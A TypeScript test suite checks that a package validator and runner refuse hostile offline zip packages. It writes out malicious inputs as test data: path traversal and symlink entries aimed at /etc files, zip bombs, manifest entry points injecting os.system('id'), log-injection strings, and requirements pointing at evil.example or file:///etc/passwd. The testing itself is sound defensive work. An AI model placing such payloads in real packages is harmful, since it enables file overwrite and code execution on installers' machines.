// Issue 7 part 1, issue 15: one table-driven corpus of hostile and broken offline packages, run against every way a
// package is judged: `validate --zip` (zipChecks in process), `validate --zip --full` in the built CLI (a real
// subprocess: the runner's acceptance, then its install pipeline into a throw-away directory) and the runner install
// (Runner.install). All three share one acceptance path (src/offline-package/acceptance/acceptance.ts), so each case must be
// refused by all three with the same contract code (§6: 2001 invalid_zip, 2002 manifest, 2004 wheels, 2008
// integrity), the runner's message in the failed check, within a time bound, with bounded memory, and without a byte
// written anywhere outside the staging area. Good packages (ours, another tool's, the original CLI's) are accepted
// by both with the same warnings.
// test/zip/safe-zip.test.ts and test/store/install-rejects.test.ts hold finer-grained corpora of the zip reader and the
// store; this one is the cross-path proof, and adds what they lack (bombs by count, ZIP64 lies, forged wheels,
// manifest injection, requirements that point elsewhere).
import { createHash, randomBytes } from "node:crypto";
import { lstatSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import path from "node:path";
import { deflateRawSync } from "node:zlib";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { ProcVisionError, Runner } from "../../src/index.js";
import { writeWheel } from "../../src/wheel-builder/write.js";
import { zipChecks } from "../../src/validate/zip-checks.js";
import { runCli } from "../helpers/cli.js";
import { deflated, forgePackage, forgeZip, stored, type Forged } from "../helpers/forge-zip.js";
import { testPython } from "../helpers/python.js";
import { fakeWheel } from "../helpers/wheels.js";
import { originalZip } from "../helpers/original-cli.js";
import { exampleZip, realWheels, SDK_VERSION, withoutSums } from "../helpers/store.js";

// Everything this file writes, including what the code under test puts in os.tmpdir(), lands in `sandbox`: the
// snapshot of it before and after each case is the proof that nothing escaped. (Each vitest file runs in a process of
// its own, so TMPDIR here does not touch other test files.)
const sandbox = mkdtempSync(path.join(tmpdir(), "pv-rel-hostile-"));
const inbox = path.join(sandbox, "in");
const tmp = path.join(sandbox, "tmp");
mkdirSync(inbox);
mkdirSync(tmp);
process.env.TMPDIR = tmp;
const rootDir = path.join(sandbox, "root");

const CASE_TIME_LIMIT_MS = 15_000;
const CASE_RSS_LIMIT = 256 * 1024 * 1024;

// ---- a complete, valid package the cases are variations of ------------------------------------------------------

const SDK_WHEEL = `wheels/procvision_algorithm_sdk-${SDK_VERSION}-py3-none-any.whl`;
const SDK_PIN = `procvision_algorithm_sdk==${SDK_VERSION}\n`;
const manifestOf = (over: Record<string, unknown> = {}): string => JSON.stringify({
  name: "hostile", version: "1.0", entry_point: "hostile_algo.main:Algo", supported_pids: ["p1"],
  steps: [{ index: 1, name: "check", params: [] }], ...over,
});
const MAIN_PY = `from procvision_algorithm_sdk import BaseAlgorithm


class Algo(BaseAlgorithm):
    def get_info(self):
        return {"name": "hostile", "version": "1.0", "supported_pids": ["p1"], "steps": [{"index": 1, "name": "check", "params": []}]}

    def pre_execute(self, step_index, pid, session, user_params, shared_mem_id, image_meta):
        return {"status": "OK", "message": "ready", "data": {"calibration_rects": []}}

    def execute(self, step_index, pid, session, user_params, shared_mem_id, image_meta):
        return {"status": "OK", "message": "", "data": {"result_status": "OK", "defect_rects": []}}
`;

let sdkWheel: Buffer;
/** A wheel whose file name says one distribution and whose METADATA says another. */
let liarWheels: { name: Buffer; version: Buffer; notZip: Buffer; noMetadata: Buffer };

function baseFiles(over: Record<string, string | Buffer | null> = {}): Record<string, string | Buffer> {
  const files: Record<string, string | Buffer | null> = {
    "manifest.json": manifestOf(),
    "hostile_algo/__init__.py": "",
    "hostile_algo/main.py": MAIN_PY,
    "requirements.txt": SDK_PIN,
    [SDK_WHEEL]: sdkWheel,
    ...over,
  };
  return Object.fromEntries(Object.entries(files).filter((e): e is [string, string | Buffer] => e[1] !== null));
}
const pkg = (over: Record<string, string | Buffer | null> = {}, extra: Forged[] = []): Buffer => forgePackage(baseFiles(over), { extra });

// ---- the corpus ---------------------------------------------------------------------------------------------------

/** Which validate check must fail for each code, unless a case says otherwise. */
const CHECK_OF: Record<string, string> = { "2001": "zip_paths_safe", "2002": "zip_manifest", "2004": "wheels_cover_requirements", "2008": "checksums_valid" };

interface HostileCase {
  title: string;
  /** Family, for docs/RELIABILITY.md. */
  family: string;
  bytes: () => Buffer;
  code: string;
  /** What the install error must say. */
  message: RegExp;
  /** The validate check that must fail, and what it must say (default: CHECK_OF[code] and `message`). */
  check?: string;
  checkMessage?: RegExp;
}

const MAIN = "hostile_algo/main.py";
const sha256 = (c: string | Buffer): string => createHash("sha256").update(c).digest("hex");
/** The files as `edit` forges them, with a SHA256SUMS of their true contents. */
const withSums = (files: Record<string, string | Buffer>, edit: (p: string, content: string | Buffer) => Forged): Buffer =>
  forgeZip([...Object.entries(files).map(([p, c]) => edit(p, c)), stored("SHA256SUMS", Object.keys(files).sort().map((p) => `${sha256(files[p]!)}  ${p}\n`).join(""))]);
const ZEROS_1M = Buffer.alloc(1024 * 1024);
const ZEROS_1M_DEFLATED = deflateRawSync(ZEROS_1M);
const many = (n: number, make: (i: number) => Forged): Forged[] => Array.from({ length: n }, (_, i) => make(i));
const m = stored("manifest.json", manifestOf());

const corpus: HostileCase[] = [
  // path traversal in all its forms
  { family: "traversal", title: "parent traversal ../", bytes: () => pkg({ "../evil.py": "x" }), code: "2001", message: /"\.\.\/evil\.py": '\.\.' segment/ },
  { family: "traversal", title: "nested traversal a/../../", bytes: () => pkg({ "hostile_algo/../../../tmp/evil": "x" }), code: "2001", message: /'\.\.' segment/ },
  { family: "traversal", title: "trailing .. segment", bytes: () => pkg({}, [stored("hostile_algo/..", "x")]), code: "2001", message: /'\.\.' segment/ },
  { family: "traversal", title: "absolute path", bytes: () => pkg({ "/etc/cron.d/evil": "* * * * * root sh" }), code: "2001", message: /absolute path/ },
  { family: "traversal", title: "drive letter C:/", bytes: () => pkg({ "C:/Windows/evil.dll": "x" }), code: "2001", message: /drive letter/ },
  { family: "traversal", title: "drive-relative C:evil", bytes: () => pkg({ "C:evil.py": "x" }), code: "2001", message: /drive letter/ },
  { family: "traversal", title: "backslash traversal ..\\", bytes: () => pkg({ "..\\..\\evil.py": "x" }), code: "2001", message: /backslash/ },
  { family: "traversal", title: "UNC path \\\\server\\share", bytes: () => pkg({ "\\\\server\\share\\evil.py": "x" }), code: "2001", message: /backslash/ },
  { family: "traversal", title: "NTFS stream a.py:hidden", bytes: () => pkg({ "hostile_algo/main.py:hidden": "x" }), code: "2001", message: /colon/ },
  { family: "traversal", title: "dot segment ./", bytes: () => pkg({ "./hostile_algo/x.py": "x" }), code: "2001", message: /'\.' segment/ },
  { family: "traversal", title: "NUL byte truncating the name", bytes: () => pkg({ "hostile_algo/ok.py\u0000../../evil": "x" }), code: "2001", message: /control character/ },
  // links and hard-link tricks
  { family: "links", title: "symlink to /etc/passwd", bytes: () => pkg({}, [stored("hostile_algo/passwd", "/etc/passwd", { mode: 0o120777 })]), code: "2001", message: /symbolic link/ },
  { family: "links", title: "symlinked directory then a file through it", bytes: () => pkg({}, [stored("out", "/tmp", { mode: 0o120777 }), stored("out/evil.py", "x")]), code: "2001", message: /symbolic link/ },
  { family: "links", title: "device/fifo entry", bytes: () => pkg({}, [stored("hostile_algo/fifo", "", { mode: 0o010644 })]), code: "2001", message: /special file/ },
  { family: "links", title: "hard-link trick: two names, one local header", bytes: () => forgeZip([m, deflated("a.py", "print(1)\n"), { ...deflated("b.py", "print(1)\n"), sharesLocalOf: 1 }]), code: "2001", message: /overlaps the data of "a\.py"/ },
  // duplicates and collisions
  { family: "duplicates", title: "second manifest.json (last one wins elsewhere)", bytes: () => pkg({}, [stored("manifest.json", manifestOf({ entry_point: "os:system" }))]), code: "2001", message: /"manifest\.json": duplicate name/ },
  { family: "duplicates", title: "case-colliding names", bytes: () => pkg({ "hostile_algo/Main.py": "evil = 1\n" }), code: "2001", message: /letter case/ },
  { family: "duplicates", title: "Unicode NFC/NFD twins (one file on macOS)", bytes: () => pkg({ "hostile_algo/caf\u00e9.py": "a = 1\n", "hostile_algo/cafe\u0301.py": "b = 1\n" }), code: "2001", message: /case-insensitive duplicate/ },
  { family: "duplicates", title: "file used as a directory", bytes: () => pkg({ "hostile_algo/main.py/evil.py": "x" }), code: "2001", message: /which is a file/ },
  // names
  { family: "names", title: "non-UTF-8 name without the UTF-8 flag", bytes: () => pkg({}, [stored(Buffer.from([0x61, 0xe9, 0x2e, 0x70, 0x79]), "x", { flags: 0 })]), code: "2001", message: /non-UTF-8 name/ },
  { family: "names", title: "invalid UTF-8 under the UTF-8 flag", bytes: () => pkg({}, [stored(Buffer.from([0x61, 0xff, 0xfe, 0x2e, 0x70, 0x79]), "x")]), code: "2001", message: /not valid UTF-8/ },
  // bombs
  { family: "bombs", title: "zip bomb by ratio (64 MiB of zeros in one entry)", bytes: () => pkg({}, [deflated("assets/zeros.bin", Buffer.alloc(64 * 1024 * 1024))]), code: "2001", message: /compression ratio \d+:1 above the limit of 200:1 \(zip bomb\)/ },
  { family: "bombs", title: "zip bomb by count (20,001 entries)", bytes: () => forgeZip([m, ...many(20_000, (i) => stored(`f/${i}`))]), code: "2001", message: /20001 entries, more than the limit of 20000/, check: "zip_open" },
  { family: "bombs", title: "zip bomb by count × ratio (300 entries of 1 MiB zeros, each under the per-entry threshold)", bytes: () => forgeZip([m, ...many(300, (i) => ({ name: `assets/z${i}.bin`, data: ZEROS_1M_DEFLATED, method: 8, size: ZEROS_1M.length, crc: 0 }))]), code: "2001", message: /expand to \d+ bytes .* \(zip bomb\)/ },
  { family: "bombs", title: "overlapping bomb (200 records over one 1 MiB entry)", bytes: () => forgeZip([m, { name: "z0", data: ZEROS_1M_DEFLATED, method: 8, size: ZEROS_1M.length, crc: 0 }, ...many(200, (i) => ({ name: `z${i + 1}`, data: ZEROS_1M_DEFLATED, method: 8, size: ZEROS_1M.length, crc: 0, sharesLocalOf: 1 }))]), code: "2001", message: /zip bomb/ },
  { family: "bombs", title: "declared size smaller than the data (inflates past it)", bytes: () => withSums(baseFiles({ "hostile_algo/big.py": "x = 1\n".repeat(50_000) }), (p, c) => deflated(p, c, p === "hostile_algo/big.py" ? { size: 100 } : {})), code: "2001", message: /damaged data/, check: "checksums_valid" },
  // broken structure
  { family: "structure", title: "not a zip", bytes: () => Buffer.from("MZ\u0090 this is an executable, not a zip\n".repeat(50)), code: "2001", message: /not a readable zip/, check: "zip_open" },
  { family: "structure", title: "empty file", bytes: () => Buffer.alloc(0), code: "2001", message: /not a readable zip/, check: "zip_open" },
  { family: "structure", title: "truncated central directory", bytes: () => { const z = pkg(); return Buffer.concat([z.subarray(0, z.length - 22 - 50), z.subarray(z.length - 22)]); }, code: "2001", message: /not a readable zip|central directory entry/, check: "zip_open" },
  { family: "structure", title: "end record claims more entries than exist", bytes: () => forgeZip([m, stored("a.py", "x")], { eocdEntries: 9 }), code: "2001", message: /central directory entry 3|not a readable zip/, check: "zip_open" },
  { family: "structure", title: "central directory offset past the end", bytes: () => forgeZip([m], { eocdOffset: 0x7fff_0000 }), code: "2001", message: /not a readable zip|central directory/, check: "zip_open" },
  { family: "structure", title: "cut in the middle of the data", bytes: () => pkg().subarray(0, 200), code: "2001", message: /not a readable zip/, check: "zip_open" },
  { family: "structure", title: "bad CRC (file listed in SHA256SUMS, so read before extraction)", bytes: () => withSums(baseFiles(), (p, c) => stored(p, c, p === MAIN ? { crc: 0xdeadbeef } : {})), code: "2001", message: /CRC-32 mismatch/, check: "checksums_valid" },
  { family: "structure", title: "encrypted entry", bytes: () => pkg({}, [stored("hostile_algo/secret.py", Buffer.alloc(13), { flags: 0x0801, size: 1 })]), code: "2001", message: /encrypted entry/ },
  { family: "structure", title: "unsupported compression (LZMA)", bytes: () => pkg({}, [stored("hostile_algo/x.py", "x", { method: 14 })]), code: "2001", message: /unsupported compression method 14/ },
  // ZIP64 lies
  { family: "zip64", title: "ZIP64 end record claims 2^40 entries", bytes: () => forgeZip([m], { zip64End: { entries: 2 ** 40 } }), code: "2001", message: /more than the limit of 20000|not a readable zip/, check: "zip_open" },
  { family: "zip64", title: "ZIP64 locator points outside the file", bytes: () => forgeZip([m], { zip64End: { locatorOffset: 2 ** 40 } }), code: "2001", message: /not a readable zip/, check: "zip_open" },
  { family: "zip64", title: "ZIP64 extra field claims a 32 TiB entry", bytes: () => { const e = deflated("assets/huge.bin", "tiny"); return forgeZip([m, { ...e, zip64: { size: 2 ** 45, compressedSize: e.data!.length } }]); }, code: "2001", message: /zip bomb|more than the limit/ },
  { family: "zip64", title: "ZIP64 extra field points the entry at another's data", bytes: () => forgeZip([m, stored("a.py", "print(1)\n"), { ...stored("b.py", "print(1)\n"), zip64: { size: 9, compressedSize: 9, offset: 0 } }]), code: "2001", message: /overlaps/ },
  // manifest injection
  { family: "manifest", title: "no manifest.json", bytes: () => pkg({ "manifest.json": null }), code: "2002", message: /no manifest\.json/ },
  { family: "manifest", title: "manifest name escaping deployed/", bytes: () => pkg({ "manifest.json": manifestOf({ name: "../../../etc" }) }), code: "2002", message: /name/ },
  { family: "manifest", title: "manifest version escaping deployed/", bytes: () => pkg({ "manifest.json": manifestOf({ version: "1.0/../../../../tmp/x" }) }), code: "2002", message: /version/ },
  { family: "manifest", title: "log injection: newline and ANSI escapes in the name", bytes: () => pkg({ "manifest.json": manifestOf({ name: "ok\n2024-01-01 install ok\u001b[2K" }) }), code: "2002", message: /name/ },
  { family: "manifest", title: "entry point with shell/code injection", bytes: () => pkg({ "manifest.json": manifestOf({ entry_point: "os;__import__('os').system('id'):C" }) }), code: "2002", message: /entry_point/ },
  { family: "manifest", title: "__proto__ pollution cannot supply required fields", bytes: () => pkg({ "manifest.json": `{"__proto__": {"entry_point": "hostile_algo.main:Algo"}, "name": "hostile", "version": "1.0", "supported_pids": ["p1"]}` }), code: "2002", message: /entry_point/ },
  { family: "manifest", title: "manifest is a JSON array", bytes: () => pkg({ "manifest.json": "[]" }), code: "2002", message: /invalid|object/ },
  { family: "manifest", title: "manifest nested 500,000 deep (parser stack)", bytes: () => pkg({ "manifest.json": "[".repeat(500_000) }), code: "2002", message: /not valid JSON/ },
  { family: "manifest", title: "oversized manifest (2 MiB of valid JSON)", bytes: () => pkg({ "manifest.json": manifestOf({ description: randomBytes(1536 * 1024).toString("base64") }) }), code: "2002", message: /more than the 1048576 allowed/ },
  // wheels
  { family: "wheels", title: "wheel named procvision_algorithm_sdk 0.1.0 whose METADATA says evil 6.6.6", bytes: () => pkg({ [SDK_WHEEL]: liarWheels.name }), code: "2004", message: new RegExp(`procvision_algorithm_sdk-${SDK_VERSION.replaceAll(".", "\\.")}-py3-none-any\\.whl is named procvision_algorithm_sdk ${SDK_VERSION.replaceAll(".", "\\.")} but its METADATA says evil 6\\.6\\.6`), check: "zip_wheels" },
  { family: "wheels", title: "wheel whose METADATA has another version", bytes: () => pkg({ [SDK_WHEEL]: liarWheels.version }), code: "2004", message: /METADATA says procvision_algorithm_sdk 9\.9\.9/, check: "zip_wheels" },
  { family: "wheels", title: "a .whl that is not a zip", bytes: () => pkg({ [SDK_WHEEL]: liarWheels.notZip }), code: "2001", message: /is not a readable wheel/, check: "zip_wheels" },
  { family: "wheels", title: "a wheel without METADATA", bytes: () => pkg({ [SDK_WHEEL]: liarWheels.noMetadata }), code: "2004", message: /has no \*\.dist-info\/METADATA/, check: "zip_wheels" },
  { family: "wheels", title: "requirement without a wheel", bytes: () => pkg({ "requirements.txt": SDK_PIN + "numpy==2.2.6\n" }), code: "2004", message: /no wheel for numpy==2\.2\.6/ },
  // requirements that point elsewhere
  { family: "requirements", title: "requirement with an https URL", bytes: () => pkg({ "requirements.txt": SDK_PIN + "evil @ https://evil.example/evil-1.0-py3-none-any.whl\n" }), code: "2004", message: /with a URL cannot be installed offline/, check: "requirements_pinned" },
  { family: "requirements", title: "requirement with a file:// URL", bytes: () => pkg({ "requirements.txt": SDK_PIN + "evil @ file:///etc/passwd\n" }), code: "2004", message: /with a URL cannot be installed offline/, check: "requirements_pinned" },
  { family: "requirements", title: "editable -e git+https", bytes: () => pkg({ "requirements.txt": SDK_PIN + "-e git+https://evil.example/x.git#egg=x\n" }), code: "2004", message: /cannot be installed from wheels\/: line 2 "-e git\+https/, check: "zip_requirements", checkMessage: /line 2 "-e git\+https/ },
  { family: "requirements", title: "nested -r file", bytes: () => pkg({ "requirements.txt": SDK_PIN + "-r /etc/passwd\n" }), code: "2004", message: /cannot be installed from wheels\/: line 2 "-r/, check: "zip_requirements", checkMessage: /line 2 "-r \/etc\/passwd"/ },
  { family: "requirements", title: "local path requirement", bytes: () => pkg({ "requirements.txt": SDK_PIN + "../../outside/pkg\n" }), code: "2004", message: /is a path or URL/, check: "zip_requirements", checkMessage: /line 2 "\.\.\/\.\.\/outside\/pkg"/ },
  // integrity
  { family: "integrity", title: "file changed after packaging", bytes: () => withSums(baseFiles(), (p, c) => (p === MAIN ? deflated(p, `${MAIN_PY}\nimport os; os.system("id")\n`) : stored(p, c))), code: "2008", message: /hostile_algo\/main\.py \(mismatch\)/ },
  { family: "integrity", title: "file smuggled in after packaging", bytes: () => pkg({}, [stored("hostile_algo/backdoor.py", "import os\n")]), code: "2008", message: /hostile_algo\/backdoor\.py \(missing from sums\)/ },
  { family: "integrity", title: "SHA256SUMS with traversal lines", bytes: () => forgePackage(baseFiles(), { sums: false, extra: [stored("SHA256SUMS", `${"0".repeat(64)}  ../../etc/passwd\n`)] }), code: "2008", message: /SHA256SUMS/ },
];

// ---- harness ------------------------------------------------------------------------------------------------------

type Snapshot = Map<string, string>;
/** Every path under the sandbox with its type and size, except the runner's database files and the zip inbox. */
function snapshot(): Snapshot {
  const out: Snapshot = new Map();
  const walk = (dir: string): void => {
    for (const name of readdirSync(dir)) {
      const full = path.join(dir, name);
      const rel = path.relative(sandbox, full);
      if (rel === "in" || /^root\/runner\.db/.test(rel)) continue;
      const st = lstatSync(full);
      out.set(rel, st.isDirectory() ? "dir" : st.isSymbolicLink() ? "link" : `file:${st.size}`);
      if (st.isDirectory()) walk(full);
    }
  };
  walk(sandbox);
  return out;
}

/** Runs `fn` under a time bound while sampling RSS; returns its outcome and the peak RSS growth. */
async function bounded<T>(fn: () => Promise<T>): Promise<{ value?: T; error?: unknown; ms: number; rssGrowth: number }> {
  const base = process.memoryUsage().rss;
  let peak = base;
  const sampler = setInterval(() => (peak = Math.max(peak, process.memoryUsage().rss)), 10);
  const started = performance.now();
  let timer: NodeJS.Timeout | undefined;
  try {
    const value = await Promise.race([
      fn(),
      new Promise<never>((_, reject) => (timer = setTimeout(() => reject(new Error(`hung: no answer within ${CASE_TIME_LIMIT_MS} ms`)), CASE_TIME_LIMIT_MS))),
    ]);
    return { value, ms: performance.now() - started, rssGrowth: Math.max(peak, process.memoryUsage().rss) - base };
  } catch (error) {
    return { error, ms: performance.now() - started, rssGrowth: Math.max(peak, process.memoryUsage().rss) - base };
  } finally {
    clearInterval(sampler);
    clearTimeout(timer);
  }
}

let runner: Runner;
let counter = 0;
const zipPaths = new Map<string, string>();
/** Per-case outcome, written to a JSON file the docs table is made from. */
const outcomes: Record<string, unknown>[] = [];

function zipFor(c: HostileCase): string {
  let file = zipPaths.get(c.title);
  if (file === undefined) {
    file = path.join(inbox, `case-${String(counter++).padStart(2, "0")}-offline.zip`);
    writeFileSync(file, c.bytes());
    zipPaths.set(c.title, file);
  }
  return file;
}

beforeAll(async () => {
  sdkWheel = readFileSync(realWheels().sdk);
  const w = path.join(tmp, "wheels-build");
  mkdirSync(w);
  const files = [{ path: "evil/__init__.py", data: Buffer.from("import os\n") }];
  await writeWheel(path.join(w, "name.whl"), { name: "evil", version: "6.6.6", tag: "py3-none-any", files });
  await writeWheel(path.join(w, "version.whl"), { name: "procvision_algorithm_sdk", version: "9.9.9", tag: "py3-none-any", files });
  liarWheels = {
    name: readFileSync(path.join(w, "name.whl")),
    version: readFileSync(path.join(w, "version.whl")),
    notZip: Buffer.from("#!/bin/sh\necho pwned\n".repeat(100)),
    noMetadata: forgeZip([stored("evil/__init__.py", "import os\n")]),
  };
  rmSync(w, { recursive: true });
  runner = await Runner.open({ root: rootDir, log: () => undefined });
});

afterAll(async () => {
  await runner?.close();
  if (process.env.PV_RELIABILITY_OUT) writeFileSync(process.env.PV_RELIABILITY_OUT, JSON.stringify(outcomes, null, 2));
  rmSync(sandbox, { recursive: true, force: true });
});

describe("hostile packages: validate --zip and the runner install both refuse them", () => {
  it("the corpus has at least 30 cases in every family the issue names", () => {
    expect(corpus.length).toBeGreaterThanOrEqual(30);
    expect(new Set(corpus.map((c) => c.family))).toEqual(new Set(["traversal", "links", "duplicates", "names", "bombs", "structure", "zip64", "manifest", "wheels", "requirements", "integrity"]));
    expect(new Set(corpus.map((c) => c.title)).size).toBe(corpus.length);
  });

  it("the unmodified base package passes every static validate check (so each refusal is the case's doing)", async () => {
    const file = path.join(inbox, "base-offline.zip");
    writeFileSync(file, pkg());
    const { checks } = await zipChecks({ zipPath: file, full: false, python: testPython() });
    expect(checks.filter((c) => c.result === "FAIL")).toEqual([]);
  });

  it.each(corpus)("[$family] $title → $code (validate, validate --full in the built CLI, the runner)", async (c) => {
    const file = zipFor(c);
    const before = snapshot();

    const validated = await bounded(() => zipChecks({ zipPath: file, full: false, python: testPython() }));
    expect(validated.error, String(validated.error)).toBeUndefined();
    const check = c.check ?? CHECK_OF[c.code]!;
    const failed = validated.value!.checks.filter((x) => x.result === "FAIL");
    const named = failed.find((x) => x.name === check);
    expect(named, `validate must fail ${check}; it failed ${JSON.stringify(failed)}`).toBeDefined();
    expect(named).toMatchObject({ message: expect.stringMatching(c.checkMessage ?? c.message), error_code: c.code });
    expect(validated.value!.errorCode).toBe(c.code);
    expect(snapshot()).toEqual(before);

    const installed = await bounded(() => runner.install(file));
    expect(installed.error, "install must be refused").toBeInstanceOf(ProcVisionError);
    const err = installed.error as ProcVisionError;
    expect({ code: err.code, message: err.message }).toMatchObject({ code: c.code, message: expect.stringMatching(c.message) });
    expect(err.hint).toBeTruthy();
    expect(snapshot()).toEqual(before); // nothing in deployed/, zips/, logs/, tmp, or beside the sandbox's files
    expect(runner.repository.listPackages()).toEqual([]);

    // The built CLI with --full (the runner's acceptance against this interpreter, then its install pipeline into a
    // throw-away directory): the same verdict and code as the runner, and its throw-away directory is gone.
    const cli = await runCli(["validate", "--zip", file, "--full", "--python", testPython(), "--json"], { timeoutMs: 60_000, env: { TMPDIR: tmp } });
    expect(cli.code, `${c.title}: ${cli.stderr}`).toBe(1);
    const report = cli.json as { summary: { status: string }; error_code?: string; checks: { name: string; result: string; message: string; error_code?: string }[] };
    expect(report.summary.status).toBe("FAIL");
    expect(report.error_code).toBe(err.code);
    expect(report.checks.find((x) => x.name === check)).toMatchObject({ result: "FAIL", error_code: err.code, message: expect.stringContaining(err.message) });
    expect(report.checks.map((x) => x.name)).not.toContain("zip_install");
    expect(snapshot()).toEqual(before);

    for (const r of [validated, installed]) {
      expect(r.ms).toBeLessThan(CASE_TIME_LIMIT_MS);
      expect(r.rssGrowth).toBeLessThan(CASE_RSS_LIMIT);
    }
    outcomes.push({
      family: c.family, title: c.title, zip_bytes: readFileSync(file).length, code: err.code, check,
      message: err.message.slice(0, 160), validate_ms: Math.round(validated.ms), install_ms: Math.round(installed.ms),
      rss_growth_mib: Math.round(Math.max(validated.rssGrowth, installed.rssGrowth) / 1024 / 1024),
    });
  }, 90_000);
});

describe("control", () => {
  it("the base package with its numpy wheel installs (the refusals above are not a broken installer)", async () => {
    const numpy = realWheels().numpy;
    const file = path.join(inbox, "control-offline.zip");
    writeFileSync(file, pkg({ "requirements.txt": "numpy==2.2.6\n" + SDK_PIN, [`wheels/${path.basename(numpy)}`]: readFileSync(numpy) }));
    const result = await runner.install(file);
    expect(result).toMatchObject({ name: "hostile", version: "1.0", state: "installed" });
  }, 180_000);
});

describe("good packages: validate --zip --full and the runner accept them, with the same warnings", () => {
  const good: [title: string, make: () => Promise<string>, warnings: RegExp[]][] = [
    ["the example package as procvision-cli package builds it", () => exampleZip(inbox, { version: "2.0" }), []],
    ["the example without SHA256SUMS and with a stale env file (another tool's zip)", async () =>
      withoutSums(await exampleZip(inbox, { version: "2.1", fileName: "stale.zip", envFile: { python_version: "3.13", abi: "cp313", wheels_platform: ["win_amd64"] } }),
        path.join(inbox, "algorithm-example-v2.1-offline.zip")),
    [/no SHA256SUMS/, /\.procvision_env\.json says python_version 3\.13.*judged by the wheels' tags/]],
    ["the example whose requirements do not name the SDK", () => exampleZip(inbox, { version: "2.2", requirements: "numpy==2.2.6\n" }),
      [/does not name procvision_algorithm_sdk: its wheel in the package .* is installed too/]],
    ["a zip of the original procvision-cli 0.3.2 (G3, the original SDK inside)", () => originalZip("0.3.2", inbox, { name: "orig-g3" }),
      [/no SHA256SUMS/, /ships procvision_algorithm_sdk-0\.3\.2-py3-none-any\.whl.*replaced by the runner's SDK/]],
  ];

  it.each(good)("%s", async (_title, make, expected) => {
    const file = await make();
    const cli = await runCli(["validate", "--zip", file, "--full", "--json"], { timeoutMs: 240_000, env: { TMPDIR: tmp } });
    const report = cli.json as { summary: { status: string }; error_code?: string; warnings?: string[]; checks: { name: string; result: string; message: string }[] };
    expect(report.checks.filter((x) => x.result === "FAIL"), cli.stdout + cli.stderr).toEqual([]);
    expect(report.checks.slice(-2).map((x) => [x.name, x.result])).toEqual([["zip_install", "PASS"], ["zip_smoke", "PASS"]]);
    expect(cli.code).toBe(0);
    expect(report.error_code).toBeUndefined();
    expect(readdirSync(tmp).filter((f) => f.startsWith("procvision-validate-"))).toEqual([]); // the throw-away install is gone

    const result = await runner.install(file);
    expect(result.state).toBe("installed");
    expect([...(report.warnings ?? [])].sort()).toEqual([...result.warnings].sort());
    expect(result.warnings).toHaveLength(expected.length);
    for (const w of expected) expect(result.warnings.join("\n")).toMatch(w);
  }, 300_000);

  it("a package refused by the install step itself (a dependency without a wheel): zip_install fails with the runner's code", async () => {
    const wheels = path.join(tmp, "dep-wheels");
    mkdirSync(wheels, { recursive: true });
    const lib = await fakeWheel(wheels, { name: "vision-lib", version: "1.0", tag: "py3-none-any", requires: ["missing-dep>=2"] });
    const file = await exampleZip(inbox, { version: "2.3", wheels: [...Object.values(realWheels()), lib], requirements: `numpy==2.2.6\n${SDK_PIN}vision-lib==1.0\n` });
    rmSync(wheels, { recursive: true });
    const cli = await runCli(["validate", "--zip", file, "--full", "--json"], { timeoutMs: 240_000, env: { TMPDIR: tmp } });
    const report = cli.json as { error_code?: string; checks: { name: string; result: string; message: string; error_code?: string }[] };
    expect(cli.code).toBe(1);
    expect(report.checks.filter((x) => x.result === "FAIL").map((x) => x.name)).toEqual(["zip_install"]);
    const err = await runner.install(file).then(() => undefined, (e: unknown) => e as ProcVisionError);
    expect(err).toBeInstanceOf(ProcVisionError);
    expect(err!.code).toBe("2004");
    expect(report.error_code).toBe(err!.code);
    expect(report.checks.at(-1)).toMatchObject({ error_code: err!.code, message: expect.stringContaining(err!.message) });
    expect(readdirSync(tmp).filter((f) => f.startsWith("procvision-validate-"))).toEqual([]); // removed after a failure too
  }, 300_000);
});
